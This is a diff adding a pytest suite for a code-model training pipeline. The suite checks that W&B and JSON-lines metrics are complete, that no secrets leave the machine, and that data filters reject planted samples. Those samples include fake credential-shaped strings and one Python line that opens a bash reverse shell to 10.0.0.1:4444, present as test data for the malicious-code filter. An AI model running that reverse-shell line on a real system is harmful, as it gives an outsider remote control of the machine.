@@ -1,0 +1,187 @@
+"""Every phase's numbers reach W&B (offline, the real client) and the local JSON-lines file; nothing else does."""
+
+from __future__ import annotations
+
+import json
+import logging
+import math
+
+import psycopg
+import pytest
+import torch
+from conftest import TEST_PASSWORD, insert_stdlib_rows
+from wandb_reader import find_run_files, read_run
+
+from codelupe_trainer.cli import main
+from codelupe_trainer.state import load_state
+from codelupe_trainer.trainer import gradient_statistics
+
+pytestmark = pytest.mark.slow
+
+SEED_KEYS = [
+    "train/loss", "train/perplexity", "train/learning_rate", "train/epoch", "eval/loss", "eval/perplexity",
+    "batch/loss", "batch/perplexity", "batch/size", "batch/grad_norm",
+    "system/cpu_percent", "system/cpu_count", "system/memory_used_gb", "system/memory_available_gb",
+    "system/memory_percent", "system/disk_used_gb", "system/disk_free_gb", "system/disk_percent",
+    "data/total_samples", "data/avg_quality_score", "data/avg_code_length", "data/language_python",
+    "data/language_python_percent", "data/blocked_malicious", "data/blocked_secrets", "data/blocked_license",
+    "data/blocked_total", "data/pass_rate",
+    "dataset/train_size", "dataset/eval_size", "dataset/total_size", "dataset/train_eval_ratio",
+    "dataset/avg_tokens_per_sample", "dataset/max_tokens", "dataset/min_tokens",
+    "performance/samples_per_second", "performance/tokens_per_second", "performance/batch_time_ms",
+    "performance/data_loading_time_ms", "performance/forward_time_ms", "performance/backward_time_ms",
+    "gradients/global_norm", "gradients/mean_norm", "gradients/max_norm", "gradients/min_norm",
+    "weights/global_mean", "weights/global_std",
+    "continuous/run_number", "continuous/total_runs", "continuous/last_trained_id",
+    "continuous/total_samples_trained", "continuous/uptime_hours",
+    "progress/step", "progress/step_percent", "progress/epoch", "progress/epoch_percent",
+    "progress/eta_minutes", "progress/eta_hours",
+]
+CONFIG_KEYS = ["model/name", "model/total_params", "model/trainable_params", "model/trainable_percent", "model/lora_r",
+               "model/lora_alpha", "hyperparams/batch_size", "hyperparams/learning_rate", "hyperparams/max_length"]
+
+# Planted samples. The credentials are fake but shaped exactly like real ones.
+BODY = "\n".join(f"def helper_{index}(value):\n    return value * {index} + 1\n" for index in range(6))
+PLANTED = {
+    "aws": ("secrets", f'import boto3\n\nAWS_ACCESS_KEY_ID = "AKIAIOSFODNN7EXAMPLQ"\n{BODY}'),
+    "private_key": ("secrets", f'KEY = """\n-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7\n-----END RSA PRIVATE KEY-----\n"""\n{BODY}'),
+    "pg_url": ("secrets", f'DATABASE = "postgresql://admin:Zx9vQ2mLp7Rt@db.example.com:5432/prod"\n{BODY}'),
+    "github": ("secrets", f'GITHUB_TOKEN = "ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5"\n{BODY}'),
+    "gpl": ("license", f"# SPDX-License-Identifier: GPL-3.0-or-later\n# This program is free software.\n{BODY}"),
+    "malicious": ("malicious", f'import os\nos.system("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")\n{BODY}'),
+}
+MIT_SAMPLE = f"# SPDX-License-Identifier: MIT\n# Copyright (c) 2024 Example\n{BODY}\nclass MitLicensedThing:\n    pass\n"
+
+
+def insert_planted(url: str, contents: list[str]) -> None:
+    with psycopg.connect(url, autocommit=True) as connection:
+        for index, content in enumerate(contents):
+            connection.execute(
+                "INSERT INTO processed_files (relative_path, content, language, lines, size, hash, repo_name, quality_score)"
+                " VALUES (%s, %s, 'python', %s, %s, %s, 'planted', 80)",
+                (f"planted_{index}.py", content, content.count("\n"), len(content), f"planted-{index}-{hash(content)}"),
+            )
+
+
+@pytest.fixture
+def trained_run(crawler_table, make_settings, tmp_path, caplog):
+    caplog.set_level(logging.INFO)
+    insert_stdlib_rows(crawler_table, start=0, count=100)
+    with psycopg.connect(crawler_table) as connection:
+        duplicated = connection.execute("SELECT content FROM processed_files WHERE quality_score = 70 AND char_length(content) < 8000 ORDER BY id LIMIT 1").fetchone()[0]
+    # The same file again, differing only in trailing whitespace: a duplicate after normalisation.
+    insert_planted(crawler_table, [content for _, content in PLANTED.values()] + [MIT_SAMPLE, duplicated + "   \n\n"])
+    settings = make_settings(crawler_table)
+    assert main(["run-once", "--config", str(tmp_path / "codelupe.toml")]) == 0
+    [run_file] = find_run_files(tmp_path)
+    return settings, run_file, read_run(run_file), caplog
+
+
+def test_every_seed_metric_is_in_the_wandb_run(trained_run):
+    settings, run_file, run, caplog = trained_run
+    missing = [key for key in SEED_KEYS if key not in run.keys()]
+    assert not missing, missing
+    assert run.run["name"] == "run-1" and run.run["group"] == "codelupe-continuous"
+
+    for row in run.history:
+        for loss_key, perplexity_key in (("train/loss", "train/perplexity"), ("eval/loss", "eval/perplexity"), ("batch/loss", "batch/perplexity")):
+            if loss_key in row:
+                assert math.isfinite(row[loss_key])
+                assert row[perplexity_key] == pytest.approx(math.exp(row[loss_key]), rel=1e-9)
+    for key in ("progress/step_percent", "progress/epoch_percent", "system/cpu_percent", "system/memory_percent", "data/pass_rate"):
+        assert all(0 <= value <= 100 for _, value in run.values(key)), key
+    assert run.values("progress/step_percent")[-1][1] == 100
+    etas = [value for _, value in run.values("progress/eta_minutes")]
+    assert etas == sorted(etas, reverse=True) and etas[-1] == 0
+    steps = [row["_step"] for row in run.history]
+    assert steps == sorted(steps)
+
+    for key in ("gradients/global_norm", "gradients/mean_norm", "gradients/max_norm"):
+        assert all(value > 0 for _, value in run.values(key)), key
+    # lora_A's gradient is exactly zero while lora_B is still at its zero initialisation.
+    assert all(value >= 0 for _, value in run.values("gradients/min_norm"))
+    for (_, global_norm), (_, largest), (_, smallest) in zip(run.values("gradients/global_norm"), run.values("gradients/max_norm"), run.values("gradients/min_norm")):
+        assert global_norm >= largest >= smallest
+    per_layer = [key for key in run.keys() if key.startswith("gradients/layers.")]
+    assert 0 < len(per_layer) <= settings.metrics.per_layer_sample
+
+    assert all(run.config.get(key) is not None for key in CONFIG_KEYS), [key for key in CONFIG_KEYS if key not in run.config]
+    assert run.config["model/trainable_params"] > 0
+    assert run.config["hyperparams/max_length"] == settings.data.max_length
+
+    state = load_state(settings.paths.state_file)
+    final = run.history[-1]
+    assert final["continuous/last_trained_id"] == state.last_trained_id
+    assert final["continuous/total_samples_trained"] == state.total_samples_trained
+    assert "less than the current step" not in caplog.text and "step must be monotonically" not in caplog.text
+
+
+def test_filters_block_planted_samples_and_the_counts_reach_wandb(trained_run):
+    settings, run_file, run, _ = trained_run
+    [data_row] = [row for row in run.history if "data/blocked_total" in row]
+    assert data_row["data/blocked_secrets"] == 4
+    assert data_row["data/blocked_license"] == 1
+    assert data_row["data/blocked_malicious"] == 1
+    assert data_row["data/blocked_duplicates"] == 1
+    assert data_row["data/blocked_total"] == 7
+    state = load_state(settings.paths.state_file)
+    assert state.last_run["blocked"] == {"secrets": 4, "license": 1, "malicious": 1, "duplicates": 1}
+    # The MIT-headed file and clean code passed: they are among the trained samples.
+    assert data_row["data/total_samples"] == state.total_samples_trained
+
+
+def test_only_metrics_leave_the_machine(trained_run, tmp_path):
+    settings, run_file, run, caplog = trained_run
+    run_directory = run_file.parent
+    files = [path for path in run_directory.rglob("*") if path.is_file()]
+    assert not [path for path in files if path.parent.name == "files"], "no artifact or uploaded file"
+    assert not any(path.suffix in (".safetensors", ".bin", ".pt", ".py", ".patch") for path in files)
+    raw = b"".join(path.read_bytes() for path in files)
+    for secret in (TEST_PASSWORD, "AKIAIOSFODNN7EXAMPLQ", "MitLicensedThing", "def helper_3(value)"):
+        assert secret.encode() not in raw, secret
+    assert "artifact" not in run.record_types and "files" not in run.record_types
+    assert not any(isinstance(value, str) and "run-once" in value for value in run.config.values())
+
+
+def test_jsonl_file_holds_the_same_numbers_as_wandb(trained_run):
+    settings, run_file, run, _ = trained_run
+    by_step: dict[int, dict] = {}
+    for line in (settings.paths.state_file.parent / "metrics.jsonl").read_text().splitlines():
+        record = json.loads(line)
+        if "step" in record and "event" not in record:
+            by_step.setdefault(record["step"], {}).update({key: value for key, value in record.items() if key not in ("run", "step", "time")})
+    history = {row["_step"]: row for row in run.history}
+    assert set(by_step) == set(history)
+    for step, values in by_step.items():
+        for key, value in values.items():
+            assert history[step][key] == pytest.approx(value, nan_ok=True), (step, key)
+
+
+def test_gradient_statistics_match_an_independent_norm(tiny_model):
+    from peft import LoraConfig, get_peft_model
+    from transformers import AutoModelForCausalLM
+
+    model = get_peft_model(AutoModelForCausalLM.from_pretrained(tiny_model),
+                           LoraConfig(r=4, lora_alpha=8, target_modules=["q_proj", "v_proj"], init_lora_weights="gaussian"))
+    tokens = torch.randint(0, 500, (2, 32))
+    model(input_ids=tokens, labels=tokens).loss.backward()
+    trainable = [(name, parameter) for name, parameter in model.named_parameters() if parameter.requires_grad]
+    chosen = trainable[3][0]
+    metrics = gradient_statistics(trainable, {chosen})
+    expected = torch.linalg.vector_norm(dict(trainable)[chosen].grad).item()
+    [layer_key] = [key for key in metrics if key.startswith("gradients/layers.")]
+    assert metrics[layer_key] == pytest.approx(expected, rel=1e-5)
+    everything = torch.sqrt(sum(parameter.grad.pow(2).sum() for _, parameter in trainable)).item()
+    assert metrics["gradients/global_norm"] == pytest.approx(everything, rel=1e-5)
+
+
+def test_online_without_api_key_falls_back_to_offline(crawler_table, make_settings, tmp_path, caplog):
+    insert_stdlib_rows(crawler_table, start=0, count=40)
+    settings = make_settings(crawler_table, extra=f'[wandb]\nmode = "online"\ndir = "{tmp_path}"\n')
+    caplog.set_level(logging.WARNING)
+    assert main(["run-once", "--config", str(tmp_path / "codelupe.toml")]) == 0
+    assert "no API key" in caplog.text
+    [run_file] = find_run_files(tmp_path)
+    assert run_file.parent.name.startswith("offline-run-")
+    assert "train/loss" in read_run(run_file).keys()
+    assert load_state(settings.paths.state_file).total_training_runs == 1
